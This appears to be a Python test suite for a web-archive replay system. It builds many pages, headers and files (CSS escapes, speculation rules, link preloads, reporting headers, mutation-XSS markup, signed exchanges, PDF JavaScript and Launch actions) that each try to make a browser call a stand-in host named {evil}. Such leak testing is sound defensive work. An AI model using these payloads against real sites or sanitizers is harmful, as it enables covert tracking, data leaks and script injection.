head("css-escaped", "<style>@\\69mport '{evil}/a.css'; body { background: u\\72l(\\68ttp://{host}/b.png); --x: url({evil}/x.png); background-image: var(--x) }</style>")
script("css-attribute", "document.body.setAttribute('style', 'background: url({evil}/)'); document.body.style.cssText += '; cursor: url({evil}/), auto'")
head("import-map", "<script type=importmap>{\"imports\": {\"x\": \"{evil}/x.js\"}, \"integrity\": {}}</script><script type=module>import 'x'</script>")
head("speculation", "<script type=speculationrules>{\"prefetch\": [{\"urls\": [\"{evils}/\", \"{evil}/\"], \"eagerness\": \"immediate\"}], \"prerender\": [{\"urls\": [\"{evil}/\", \"{evils}/\"], \"eagerness\": \"immediate\"}]}</script>")
SPECULATE = "{\"prefetch\": [{\"urls\": [\"{evils}/\"], \"eagerness\": \"immediate\", \"referrer_policy\": \"no-referrer\"}]}"
head("speculation-without-referrer", f'<meta name="referrer" content="no-referrer"><script type=speculationrules>{SPECULATE}</script>')
script("speculation-by-script", f"const m = document.createElement('meta'); m.name = 'referrer'; m.content = 'no-referrer'; document.head.append(m); const s = document.createElement('script'); s.type = 'speculationrules'; "
       f"s.textContent = `{SPECULATE}`; document.head.append(s)")
script("speculation-in-fresh-frame", FRESH + f"const s = w.document.createElement('script'); s.type = 'speculationrules'; s.textContent = `{SPECULATE}`; w.document.head.append(s)")
head("speculation-header", "", headers=[("Speculation-Rules", "\"/rules.json\"")], more={"/rules.json": (200, [("Content-Type", "application/speculationrules+json")],
     '{"prefetch": [{"urls": ["{evils}/"], "eagerness": "immediate"}]}')})
for rel in ("prefetch", "preload", "modulepreload", "prerender", "preconnect", "dns-prefetch", "icon", "apple-touch-icon", "manifest", "stylesheet", "alternate stylesheet", "next", "search", "pingback", "compression-dictionary",
            "shortcut icon", "mask-icon", "import", "expect", "webmention", "monetization"):
    extra = ' as="image"' if rel == "preload" else ""
    label = rel.replace(" ", "-")
    head("rel-" + label, f'<link rel="{rel}" href="{{evil}}/"{extra}><link rel="x {rel}" href="{{evils}}/"{extra}>')
    script("rel-made-" + label, f"const l = document.createElement('link'); l.rel = '{rel}'; {'l.as = ' + repr('image') + ';' if extra else ''} "
           "l.attributes.setNamedItem(Object.assign(document.createAttribute('href'), {value: '{evil}/'})); document.head.append(l)")
script("rel-preconnect-fresh", FRESH + "for (const rel of ['preconnect', 'dns-prefetch']) { const l = w.document.createElement('link'); l.rel = rel; l.href = '{evil}/'; w.document.head.append(l) }")
script("rel-preconnect-srcdoc", frame_of("<link rel=preconnect href={evil}/><link rel=dns-prefetch href={evil}/>"))
script("rel-preconnect-blob", "const f = document.createElement('iframe'); f.src = " + blob_of("<link rel=preconnect href={evil}/>") + "; document.body.append(f)")
script("rel-preconnect-data", "const f = document.createElement('iframe'); f.src = 'data:text/html,<link rel=preconnect href={evil}/><link rel=dns-prefetch href={evil}/>'; document.body.append(f)")
head("link-header", "", headers=[("Link", "<{evil}/>; rel=preconnect, <{evil}/>; rel=dns-prefetch, <{evil}/i.png>; rel=preload; as=image, <{evil}/p>; rel=prefetch")])
head("link-header-quoted", "", headers=[("Link", "<{evil}/>; title=\"a, b\"; rel=\"x preconnect\""), ("Link", "< {evil}/ >;rel='preconnect'"), ("Link", ",,<{evil}/>;REL=PreConnect")])
head("report-headers", '<img src="http://csp.test/x">', headers=[("Content-Security-Policy", "default-src 'none'; report-uri {evil}/ {evils}/; report-to x"), ("Content-Security-Policy-Report-Only", "default-src 'none'; report-uri {evil}/"),
     ("Reporting-Endpoints", "default=\"{evils}/\", x=\"{evils}/\""), ("Report-To", '{"group":"x","max_age":999,"endpoints":[{"url":"{evils}/"}]}'), ("NEL", '{"report_to":"x","max_age":999,"success_fraction":1}'),
     ("Expect-CT", "report-uri=\"{evils}/\""), ("Alt-Svc", 'h2="{host}:443"'), ("Accept-CH", "DPR"), ("Critical-CH", "DPR"), ("Origin-Trial", "x"), ("SourceMap", "{evil}/m.map"), ("X-SourceMap", "{evil}/m.map"),
     ("Attribution-Reporting-Register-Source", '{"destination":"{evils}"}'), ("Ad-Auction-Allowed", "?1"), ("Use-As-Dictionary", 'match="/*"'), ("Service-Worker-Allowed", "/"), ("Content-Location", "{evil}/"),
     ("Connection-Allowlist", "(\"*://*\")"), ("Document-Policy", "*;report-to=x"), ("Set-Login", "logged-in"), ("Activate-Storage-Access", "load"), ("Supports-Loading-Mode", "fenced-frame")])
head("meta-policy", '<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri {evil}/"><meta http-equiv="x-dns-prefetch-control" content="on"><meta http-equiv="delegate-ch" content="dpr {evil}">'
     '<a href="{evil}/">x</a>')
body("frame-srcset-and-lazy", '<img srcset="{evil}/a 1x,{evil}/b 2x" loading=lazy><picture><source srcset="{evil}/c"><img></picture><svg><image xlink:href="{evil}/d"/><use href="{evil}/e#x"/></svg><table background="{evil}/f"><tr><td background="{evil}/g"></table>'
     '<video poster="{evil}/h"></video><input type=image src="{evil}/i"><iframe src="{evil}/j" loading=lazy></iframe><link itemprop=x href="{evil}/k"><img src=x usemap=#m longdesc="{evil}/l"><q cite="{evil}/m"></q>')
body("mutation-xss", '<noscript><p title="</noscript><img src={evil}/a>"></p></noscript><!--><img src={evil}/b>--><svg><style><img src="{evil}/c"></style></svg><math><mtext><table><mglyph><style><img src={evil}/d></style></table></math>'
     '<textarea><img src="{evil}/e"></textarea><xmp><img src={evil}/f></xmp><select><iframe src={evil}/g></iframe></select><plaintext><img src={evil}/h>')


# --- what the browser itself acts upon, whatever the policies say ---
def signed_exchange(name, signature):
    """A file that is none (Signed HTTP Exchanges, draft-yasskin-http-origin-signed-responses): the browser goes to the fallback URL in it, and fetches the certificate that it names."""
    fallback = f"https://{name}.evil.test/".encode()
    fields = b"\xa1\x47:status\x43200"
    return (b"sxg1-b3\0" + len(fallback).to_bytes(2, "big") + fallback + len(signature).to_bytes(3, "big") + len(fields).to_bytes(3, "big") + signature + fields + b"body")


def signature(name):
    return (f'label;cert-url="https://{name}.evil.test/cert";cert-sha256=*{"A" * 43}=*;date=1767323000;expires=1767323999;integrity="digest/mi-sha256-03";sig=*{"A" * 96}*;'
            f'validity-url="https://{name}.evil.test/v"').encode()


SIGNED = [("Content-Type", "application/signed-exchange;v=b3"), ("X-Content-Type-Options", "nosniff")]
for modifier in ("mp_", "id_", "oe_", ""):
    name = "signed-" + (modifier.strip("_") or "plain")
    way(name, signed_exchange(name, signature(name)), type=SIGNED[0][1], headers=SIGNED[1:], modifier=modifier, tells=False)
    script(name + "-location", f"location = '/alpha/20260102030405{modifier}/http://{name}-location.site.test/x.sxg'", more={"/x.sxg": (200, SIGNED, signed_exchange(name + "-location", signature(name + "-location")))})
script("signed-frame", "const f = document.createElement('iframe'); f.src = '/x.sxg'; document.body.append(f)", more={"/x.sxg": (200, SIGNED, signed_exchange("signed-frame", signature("signed-frame")))})
script("signed-object", "const o = document.createElement('object'); o.data = '/x.sxg'; document.body.append(o)", more={"/x.sxg": (200, SIGNED, signed_exchange("signed-object", b"none"))})
head("signed-prefetch", '<link rel="prefetch" href="/x.sxg" as="document">', more={"/x.sxg": (200, SIGNED, signed_exchange("signed-prefetch", signature("signed-prefetch")))})
script("signed-odd-type", "location = '/x.sxg'", more={"/x.sxg": (200, [("Content-Type", " Application/Signed-Exchange ; V=\"b3\"; v=b3"), SIGNED[1]], signed_exchange("signed-odd-type", b"none"))})
way("no-attachment", page(head='<meta http-equiv="refresh" content="0;url={evil}/">', script="location = '{evil}/'"), headers=[("Content-Disposition", "attachment=1")], tells=False)
way("no-attachment-plug-in", page(head='<meta http-equiv="refresh" content="0;url={evil}/">'), type="application/pdf, text/html", tells=False)
way("play-list", "#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n{evil}/s.ts\n#EXT-X-ENDLIST\n", type="application/vnd.apple.mpegurl", tells=False)
way("play-list-audio", "#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n{evil}/s.ts\n#EXT-X-ENDLIST\n", type="audio/mpegurl", tells=False)
way("replacing", "--b\r\nContent-Type: text/html\r\nRefresh: 0;url={evil}/\r\n\r\n<script>location = '{evil}/'</script>\r\n--b\r\n", type="multipart/x-mixed-replace; boundary=b", tells=False)
way("mhtml", "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: {evil}/\r\n\r\n<meta http-equiv=refresh content='0;url={evil}/'><img src={evil}/>\r\n--b--\r\n",
    type="multipart/related; boundary=b", tells=False)
PDF = ("%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction{action}>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj 3 0 obj<</Type/Page/MediaBox[0 0 600 600]/Parent 2 0 R/AA<</O{action}>>>>endobj trailer<</Root 1 0 R>>")
for label, action in {"uri": "<</S/URI/URI({evil}/)>>", "script": "<</S/JavaScript/JS(this.submitForm\\('{evil}/'\\);this.getURL\\('{evil}/'\\);app.launchURL\\('{evil}/'\\))>>", "form": "<</S/SubmitForm/F<</FS/URL/F({evil}/)>>>>",
                      "remote": "<</S/GoToR/F({evil}/x.pdf)/D[0/Fit]>>", "launch": "<</S/Launch/F({evil}/)>>"}.items():
    way("pdf-" + label, PDF.replace("{action}", action), type="application/pdf", tells=False)
